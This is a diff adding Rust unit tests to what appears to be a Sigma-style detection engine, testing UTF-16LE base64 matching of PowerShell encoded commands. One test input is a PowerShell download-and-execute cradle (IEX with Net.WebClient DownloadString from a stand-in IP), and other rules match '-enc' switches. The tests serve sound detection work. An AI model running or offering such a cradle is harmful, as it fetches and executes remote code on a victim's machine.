@@ -434,6 +434,36 @@ fn encodings() {
         &[("process.command_line", "powershell -enc AAAA")],
         false,
     );
+    // PowerShell's -EncodedCommand is base64 of UTF-16LE.
+    let wide =
+        "sel:\n  process.command_line|wide|base64offset|contains: 'DownloadString'\ncondition: sel";
+    let ps = |script: &str| {
+        let enc =
+            super::encoding::base64(&super::encoding::encode(script, super::modifier::Utf16::Le));
+        format!("powershell.exe -NoP -enc {enc}")
+    };
+    check(
+        wide,
+        &[(
+            "process.command_line",
+            &ps("IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')"),
+        )],
+        true,
+    );
+    check(
+        wide,
+        &[("process.command_line", &ps("Get-Process | Sort-Object CPU"))],
+        false,
+    );
+    // The UTF-8 encoding of the same script is not what `wide` looks for.
+    let utf8 = super::encoding::base64(
+        b"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
+    );
+    check(
+        wide,
+        &[("process.command_line", &format!("powershell -enc {utf8}"))],
+        false,
+    );
     let w = "sel:\n  process.command_line|windash|contains: ' -enc '\ncondition: sel";
     check(w, &[("process.command_line", "powershell/enc  abc")], false); // not a switch: no space before it
     check(w, &[("process.command_line", "powershell /enc  abc")], true);
